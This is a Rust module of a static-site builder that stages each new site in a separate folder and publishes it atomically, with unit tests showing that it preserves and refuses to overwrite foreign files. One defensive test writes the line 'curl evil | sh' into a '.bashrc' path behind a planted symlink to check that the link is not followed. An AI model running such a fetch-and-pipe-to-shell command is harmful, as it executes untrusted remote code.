//! A built site on disk.

use std::collections::{BTreeSet, HashSet};
use std::fs;
use std::mem;
use std::path::{Path, PathBuf};
use std::sync::atomic::Ordering;
use std::sync::{Mutex, MutexGuard, PoisonError};
use std::time::SystemTime;

use rustc_hash::{FxHashMap, FxHashSet};
use serde::{Deserialize, Serialize};

use super::Output;
use super::listing::{ForeignFile, Standing};
use super::stage::{Changes, Published, Stage};
use crate::cache::{Fingerprint, Signature};
use crate::error::Error;
use crate::marker::Manifest;

/// A file that a build has written.
#[derive(Clone, Debug, Deserialize, Serialize)]
pub(crate) struct KeptFile {
    content: Fingerprint,
    /// Signature of the file in the built folder. While it is the same, the file is as it was written.
    signature: Signature,
    /// Signature of the file that it is a copy of.
    source: Option<Signature>,
}

impl KeptFile {
    /// Size in bytes.
    pub(crate) fn bytes(&self) -> u64 {
        self.signature.size()
    }

    /// Signature of the file when it was written.
    pub(super) fn signature(&self) -> Signature {
        self.signature
    }

    /// Replaces the signature of a file that was copied.
    pub(super) fn set_signature(&mut self, signature: Signature) {
        self.signature = signature;
    }
}

/// The files of a built folder, by path.
pub(crate) type KeptFiles = FxHashMap<String, KeptFile>;

/// A built site on disk.
///
/// The whole new site is prepared in a folder of its own: files that stay are second names of those in the output
/// folder, so they are never written to. At the end it takes the place of the output folder, see [`super::publish`]. A build
/// that fails or is killed before that leaves the output as it was.
#[derive(Debug)]
pub(crate) struct DiskOutput {
    standing: Standing,
    stage: Stage,
    foreign: Foreign,
    site: Mutex<NewSite>,
}

/// Files in the output folder that no build has written, by path.
#[derive(Debug)]
struct Foreign {
    files: FxHashMap<PathBuf, u64>,
    /// Folders that hold them.
    folders: FxHashSet<PathBuf>,
}

impl Foreign {
    fn new(files: &[ForeignFile]) -> Self {
        let folders = files.iter().flat_map(|file| file.path.ancestors().skip(1));
        Self {
            folders: folders.map(Path::to_owned).collect(),
            files: files.iter().map(|file| (file.path.clone(), file.number)).collect(),
        }
    }

    /// Returns the foreign file or folder that keeps the site from having a file at a path.
    fn obstacle<'a>(&self, path: &'a Path) -> Option<&'a Path> {
        if self.files.is_empty() {
            return None;
        }
        let above = path.ancestors().find(|above| self.files.contains_key(*above));
        above.or_else(|| self.folders.contains(path).then_some(path))
    }
}

/// What the build has written so far.
#[derive(Debug, Default)]
struct NewSite {
    files: KeptFiles,
    written: HashSet<String>,
    folders: HashSet<PathBuf>,
    /// Foreign files and folders in the places of the site's files.
    obstacles: BTreeSet<PathBuf>,
}

/// The result of a build on disk.
#[derive(Debug)]
pub(crate) struct Finished {
    /// All files of the site.
    pub(crate) files: KeptFiles,
    /// How many files differ from those of the build before.
    pub(crate) changed: usize,
    /// What remains to be done once the new site shows.
    pub(crate) published: Published,
}

impl Finished {
    /// Size of the whole site in bytes.
    pub(crate) fn bytes(&self) -> u64 {
        self.files.values().map(KeptFile::bytes).sum()
    }
}

impl DiskOutput {
    /// Prepares a new site for an output folder. Files that are there as they were written need not be written again.
    /// `spare` is the path of an older copy of the output folder, which this build brings up to date, see
    /// [`super::mirror`].
    ///
    /// # Errors
    ///
    /// When somebody's work is in the folder, or no folder can be made beside or within it.
    pub(crate) fn new(mut standing: Standing, spare: Option<PathBuf>) -> Result<Self, Error> {
        standing.check_ours()?;
        let stage = Stage::new(&mut standing, spare)?;
        let foreign = Foreign::new(&standing.foreign);
        Ok(Self { standing, stage, foreign, site: Mutex::default() })
    }

    /// Puts the new site in its place.
    ///
    /// # Errors
    ///
    /// When the site has a file in the place of one that no build has written, or the system refuses.
    pub(crate) fn finish(mut self) -> Result<Finished, Error> {
        self.check_obstacles()?;
        self.write_manifest()?;
        let Self { mut standing, stage, foreign, site } = self;
        let NewSite { files: new, written, .. } =
            site.into_inner().unwrap_or_else(PoisonError::into_inner);
        let mut files = KeptFiles::default();
        files.reserve(standing.unchanged.len() + new.len());
        let mut removed = mem::take(&mut standing.touched);
        for (path, unchanged) in mem::take(&mut standing.unchanged) {
            match unchanged.stays.into_inner() {
                true => drop(files.insert(path, unchanged.file)),
                false => removed.push(path),
            }
        }
        files.extend(new);
        removed.retain(|path| !files.contains_key(path));
        stage.remove(&removed)?;
        let changed = written.len() + removed.len();
        let removed: HashSet<String> = removed.into_iter().collect();
        let changes = Changes { written: &written, removed: &removed, files: &files };
        let published = stage.publish(standing, &changes, &|path| {
            let ours = |path| files.contains_key(path) || removed.contains(path);
            path.to_str().is_some_and(ours) || foreign.files.contains_key(path)
        })?;
        Ok(Finished { files, changed, published })
    }

    /// Reports all foreign files that are in the way of the site's.
    fn check_obstacles(&mut self) -> Result<(), Error> {
        let site = self.site.get_mut().unwrap_or_else(PoisonError::into_inner);
        let paths: Vec<PathBuf> = mem::take(&mut site.obstacles).into_iter().collect();
        match paths.is_empty() {
            true => Ok(()),
            false => Err(Error::ForeignFiles { folder: self.standing.target.path.clone(), paths }),
        }
    }

    /// Writes the list of all files of the new site, itself among them.
    fn write_manifest(&self) -> Result<(), Error> {
        let bytes = {
            let site = self.site();
            let unchanged = self.standing.unchanged.iter();
            let staying = unchanged
                .filter(|(_, file)| file.stays.load(Ordering::Relaxed))
                .map(|(path, _)| path.as_str());
            let new = site.files.keys().map(String::as_str);
            Manifest::bytes(staying.chain(new).chain([Manifest::FILE]))
        };
        self.write_copy(Manifest::FILE, &bytes, None)
    }

    fn site(&self) -> MutexGuard<'_, NewSite> {
        self.site.lock().expect("no writer panicked while it held the lock")
    }

    fn write_copy(&self, path: &str, bytes: &[u8], source: Option<Signature>) -> Result<(), Error> {
        let content = Fingerprint::of(bytes);
        let unchanged = self.standing.unchanged.get(path).map(|unchanged| &unchanged.file);
        if let Some(file) = unchanged.filter(|file| file.content == content) {
            let file = KeptFile { source, ..file.clone() };
            self.site().files.insert(path.to_owned(), file);
            return Ok(());
        }
        if let Some(obstacle) = self.foreign.obstacle(Path::new(path))
            && !self.is_same(obstacle, path, bytes)
        {
            self.site().obstacles.insert(obstacle.to_owned());
            return Ok(());
        }
        if let Some(folder) = Path::new(path).parent()
            && !self.site().folders.contains(folder)
        {
            self.stage.make_folder(folder)?;
            self.site().folders.insert(folder.to_owned());
        }
        let metadata = self.stage.write(path, bytes)?;
        let file = KeptFile { content, signature: Signature::new(&metadata), source };
        let mut site = self.site();
        site.files.insert(path.to_owned(), file);
        site.written.insert(path.to_owned());
        Ok(())
    }

    /// Reports whether a foreign file is the very file that the site has at its path, such as a `CNAME` that was put
    /// into the output before it was put among the static files. The site's takes its place then.
    fn is_same(&self, foreign: &Path, path: &str, bytes: &[u8]) -> bool {
        let root = self.standing.root.as_ref();
        let read = || root.and_then(|root| root.folder.read_below(foreign).ok());
        foreign == Path::new(path)
            && self.foreign.files.contains_key(foreign)
            && read().is_some_and(|theirs| theirs == bytes)
    }
}

impl Output for DiskOutput {
    fn write(&self, path: &str, bytes: Vec<u8>) -> Result<(), Error> {
        self.write_copy(path, &bytes, None)
    }

    fn copy(&self, path: &str, source: &Path) -> Result<(), Error> {
        let now = SystemTime::now();
        let signature = Signature::of(source).filter(|signature| signature.is_settled(now));
        let before = self.standing.unchanged.get(path).and_then(|unchanged| unchanged.file.source);
        if signature.is_some() && signature == before && self.keep(path) {
            return Ok(());
        }
        let bytes = fs::read(source).map_err(Error::file("read", source))?;
        self.write_copy(path, &bytes, signature)
    }

    fn keep_all(&self, paths: &[&str]) -> bool {
        let unchanged: Option<Vec<_>> =
            paths.iter().map(|path| self.standing.unchanged.get(*path)).collect();
        let Some(unchanged) = unchanged else { return false };
        for unchanged in unchanged {
            unchanged.stays.store(true, Ordering::Relaxed);
        }
        true
    }

    fn before(&self, path: &str) -> Option<Vec<u8>> {
        self.standing.unchanged.get(path)?;
        self.standing.root.as_ref()?.folder.read_below(Path::new(path)).ok()
    }

    fn names_before(&self, folder: &str) -> Vec<String> {
        let below = format!("{folder}/");
        let paths = self.standing.unchanged.keys();
        paths.filter(|path| path.starts_with(&below)).cloned().collect()
    }
}

#[cfg(test)]
mod tests {
    use docs_model::SiteMarker;

    use super::super::{Listing, Target};
    use super::*;

    fn standing(target: &Path, known: &KeptFiles) -> Result<Standing, Error> {
        let target = Target::find(target)?;
        match known.is_empty() {
            true => Standing::unknown(target),
            false => Ok(Standing::compare(Listing::with_signatures(target)?, known.clone())),
        }
    }

    fn over(target: &Path, known: &KeptFiles) -> Result<DiskOutput, Error> {
        DiskOutput::new(standing(target, known)?, None)
    }

    fn is_as_written(target: &Path, known: &KeptFiles) -> bool {
        standing(target, known).expect("the folder is ours").is_as_written()
    }

    fn write(output: &DiskOutput, files: &[(&str, &str)]) {
        output
            .write(SiteMarker::FILE, SiteMarker::default().to_json())
            .expect("the folder is ours");
        for (path, text) in files {
            output.write(path, text.as_bytes().to_vec()).expect("the folder is ours");
        }
    }

    fn count(folder: &Path) -> usize {
        fs::read_dir(folder).expect("the folder is there").count()
    }

    #[test]
    fn a_build_that_is_dropped_leaves_the_target_as_it_was() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &KeptFiles::default()).expect("the folder is free");
        write(&first, &[("index.html", "one")]);
        let known = first.finish().expect("the folder is ours").files;

        let second = over(&target, &known).expect("the folder is a build");
        write(&second, &[("index.html", "two")]);
        drop(second);

        assert_eq!(fs::read(target.join("index.html")).expect("the first build stays"), b"one");
        assert_eq!(count(folder.path()), 1);
    }

    #[test]
    fn a_build_replaces_the_one_before_it_whole() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        for name in ["old.html", "new.html"] {
            let output = over(&target, &KeptFiles::default()).expect("free, or a build");
            write(&output, &[(name, "text")]);
            let finished = output.finish().expect("the folder is ours");
            finished.published.settle().expect("the folder is ours");
        }
        assert!(!target.join("old.html").exists());
        assert!(target.join("new.html").exists());
        assert_eq!(count(folder.path()), 1);
    }

    #[test]
    fn only_what_differs_is_written() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &KeptFiles::default()).expect("the folder is free");
        write(&first, &[("a/same.html", "same"), ("a/new.html", "old"), ("b/gone.html", "")]);
        let known = first.finish().expect("the folder is ours").files;
        assert!(is_as_written(&target, &known));
        let same = Signature::of(&target.join("a/same.html"));
        fs::write(target.join("stray.txt"), "somebody's").expect("the folder is ours");

        let second = over(&target, &known).expect("the folder is a build");
        write(&second, &[("a/same.html", "same"), ("a/new.html", "new")]);
        let finished = second.finish().expect("the folder is ours");
        finished.published.settle().expect("the folder is ours");

        assert_eq!(finished.changed, 3, "one file is new, one is gone, and the manifest says so");
        assert_eq!(Signature::of(&target.join("a/same.html")), same);
        assert_eq!(fs::read(target.join("a/new.html")).expect("it is there"), b"new");
        assert!(!target.join("b").exists());
        assert_eq!(fs::read(target.join("stray.txt")).expect("it stays"), b"somebody's");
        assert!(is_as_written(&target, &finished.files));
        assert_eq!(count(folder.path()), 1);
    }

    #[test]
    fn a_file_that_was_touched_is_written_again() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &KeptFiles::default()).expect("the folder is free");
        write(&first, &[("a.html", "ours"), ("b.html", "ours")]);
        let known = first.finish().expect("the folder is ours").files;
        fs::write(target.join("a.html"), "theirs").expect("the folder is ours");

        let second = over(&target, &known).expect("the folder is a build");
        assert!(!second.keep("a.html") && second.keep("b.html"));
        write(&second, &[("a.html", "ours")]);
        second.finish().expect("the folder is ours");
        assert_eq!(fs::read(target.join("a.html")).expect("it is there"), b"ours");
    }

    #[test]
    fn a_folder_with_other_things_is_refused() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        fs::write(folder.path().join("thesis.txt"), "years of work").expect("the folder is ours");
        let refused = over(folder.path(), &KeptFiles::default());
        assert!(matches!(refused, Err(Error::ForeignFolder(_))));
    }

    #[test]
    fn several_files_are_kept_all_or_none() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &KeptFiles::default()).expect("the folder is free");
        write(&first, &[("a.html", "a"), ("a.json", "a")]);
        let known = first.finish().expect("the folder is ours").files;
        fs::remove_file(target.join("a.json")).expect("it is there");

        let second = over(&target, &known).expect("the folder is a build");
        assert!(!second.keep_all(&["a.html", "a.json"]));
        write(&second, &[]);
        let files = second.finish().expect("the folder is ours").files;
        assert!(!files.contains_key("a.html"), "a file was kept whose other half is gone");
        assert!(!target.join("a.html").exists());
    }

    #[test]
    fn a_file_takes_the_place_of_a_folder_and_a_folder_that_of_a_file() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &KeptFiles::default()).expect("the folder is free");
        write(&first, &[("a", "file"), ("b/c.html", "in a folder")]);
        let known = first.finish().expect("the folder is ours").files;

        let second = over(&target, &known).expect("the folder is a build");
        write(&second, &[("a/d.html", "in a folder"), ("b", "file")]);
        second.finish().expect("the folder is ours");
        assert_eq!(fs::read(target.join("a/d.html")).expect("it is there"), b"in a folder");
        assert_eq!(fs::read(target.join("b")).expect("it is there"), b"file");
    }

    /// Fills the target with what no build has written, and returns its paths.
    fn add_foreign(target: &Path) -> [&'static str; 4] {
        let paths = ["CNAME", ".git/objects/ab", "guide/notes.txt", "a/deep/er.txt"];
        for path in paths {
            let file = target.join(path);
            fs::create_dir_all(file.parent().expect("a file has a folder")).expect("ours");
            fs::write(file, path).expect("the folder is ours");
        }
        fs::create_dir(target.join("empty")).expect("the folder is ours");
        paths
    }

    fn assert_foreign(target: &Path, paths: &[&str]) {
        for path in paths {
            let text = fs::read_to_string(target.join(path));
            assert_eq!(text.expect("it stays"), *path);
        }
        assert!(target.join("empty").is_dir());
    }

    #[test]
    fn what_no_build_has_written_stays_with_and_without_knowledge_of_the_previous_build() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &KeptFiles::default()).expect("the folder is free");
        write(&first, &[("guide/a.html", "one"), ("guide/gone.html", "one")]);
        let known = first.finish().expect("the folder is ours").files;
        let foreign = add_foreign(&target);
        assert!(is_as_written(&target, &known), "foreign files change nothing");

        let second = over(&target, &known).expect("the folder is a build");
        write(&second, &[("guide/a.html", "two")]);
        second.finish().expect("the folder is ours");
        assert_foreign(&target, &foreign);
        assert!(!target.join("guide/gone.html").exists());

        let third = over(&target, &KeptFiles::default()).expect("the folder is a build");
        write(&third, &[("index.html", "three")]);
        third.finish().expect("the folder is ours");
        assert_foreign(&target, &foreign);
        assert!(!target.join("guide/a.html").exists(), "the manifest says that a build wrote it");
    }

    #[test]
    fn all_foreign_files_in_the_way_are_named_and_nothing_changes() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &KeptFiles::default()).expect("the folder is free");
        write(&first, &[("index.html", "one")]);
        first.finish().expect("the folder is ours");
        let foreign = add_foreign(&target);

        let second = over(&target, &KeptFiles::default()).expect("the folder is a build");
        write(&second, &[("CNAME/x.html", ""), ("guide/notes.txt", "site's"), ("a/deep", "file")]);
        write(&second, &[("a/deep/er.txt", "a/deep/er.txt")]);
        let refused = second.finish().expect_err("files are in the way");
        let Error::ForeignFiles { paths, .. } = refused else { panic!("{refused}") };
        assert_eq!(paths, ["CNAME", "a/deep", "guide/notes.txt"].map(PathBuf::from));
        assert_foreign(&target, &foreign);
        assert_eq!(fs::read(target.join("index.html")).expect("it stays"), b"one");
        assert_eq!(count(folder.path()), 1);
    }

    #[test]
    fn a_foreign_file_with_the_same_bytes_becomes_the_site_s() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &KeptFiles::default()).expect("the folder is free");
        write(&first, &[("index.html", "one")]);
        first.finish().expect("the folder is ours");
        fs::write(target.join("CNAME"), "docs.example.com").expect("the folder is ours");
        for site in [vec![("CNAME", "docs.example.com")], vec![]] {
            let output = over(&target, &KeptFiles::default()).expect("the folder is a build");
            write(&output, &site);
            output.finish().expect("nothing is in the way");
            assert_eq!(target.join("CNAME").exists(), !site.is_empty());
        }
    }

    #[cfg(unix)]
    #[test]
    fn a_planted_link_is_neither_followed_nor_lost() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let (target, elsewhere) = (folder.path().join("build"), folder.path().join("elsewhere"));
        fs::create_dir(&elsewhere).expect("the folder is ours");
        let first = over(&target, &KeptFiles::default()).expect("the folder is free");
        write(&first, &[("index.html", "one")]);
        first.finish().expect("the folder is ours");
        std::os::unix::fs::symlink("../elsewhere", target.join("a")).expect("the folder is ours");

        let second = over(&target, &KeptFiles::default()).expect("the folder is a build");
        write(&second, &[("index.html", "two")]);
        second.finish().expect("nothing is in the way");
        assert_eq!(fs::read_link(target.join("a")).expect("it stays"), Path::new("../elsewhere"));

        let third = over(&target, &KeptFiles::default()).expect("the folder is a build");
        write(&third, &[("a/.bashrc", "curl evil | sh")]);
        assert!(matches!(third.finish(), Err(Error::ForeignFiles { .. })));
        assert_eq!(count(&elsewhere), 0);
    }

    #[test]
    fn an_old_site_becomes_the_new_one_without_being_written_to() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let (target, spare) = (folder.path().join("build"), folder.path().join("spare"));
        let mut known = KeptFiles::default();
        for round in 0..5_u32 {
            let standing = standing(&target, &known).expect("free, or a build");
            let output = DiskOutput::new(standing, Some(spare.clone())).expect("it is ours");
            let text = format!("round {round}");
            let own = format!("{round}/own.html");
            write(&output, &[("same.html", "same"), ("new.html", &text), (&own, "")]);
            let finished = output.finish().expect("the folder is ours");
            known = finished.files;
            finished.published.settle().expect("the folder is ours");
            assert!(is_as_written(&target, &known));
            assert_eq!(fs::read_to_string(target.join("new.html")).expect("there"), text);
            // The old site is whole until the next build takes it.
            let old = fs::read_to_string(spare.join("new.html")).expect("the spare copy is there");
            assert_eq!(old, format!("round {}", round.max(1) - 1));
            assert_eq!(count(&target), 5, "two files, one folder, marker and manifest");
        }
        assert_eq!(count(folder.path()), 2);
    }

    #[test]
    fn a_file_that_somebody_adds_during_a_build_is_in_the_new_site() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        let first = over(&target, &KeptFiles::default()).expect("the folder is free");
        write(&first, &[("a/index.html", "one")]);
        let known = first.finish().expect("the folder is ours").files;
        let second = over(&target, &known).expect("the folder is a build");
        write(&second, &[("a/index.html", "two")]);
        for path in ["upload.txt", "a/upload.txt"] {
            fs::write(target.join(path), path).expect("the folder is ours");
        }
        fs::create_dir(target.join("uploads")).expect("the folder is ours");
        second.finish().expect("the folder is ours");
        for path in ["upload.txt", "a/upload.txt"] {
            assert_eq!(fs::read_to_string(target.join(path)).expect("it stays"), path);
        }
        assert!(target.join("uploads").is_dir());
        assert_eq!(fs::read(target.join("a/index.html")).expect("it is there"), b"two");
    }
}
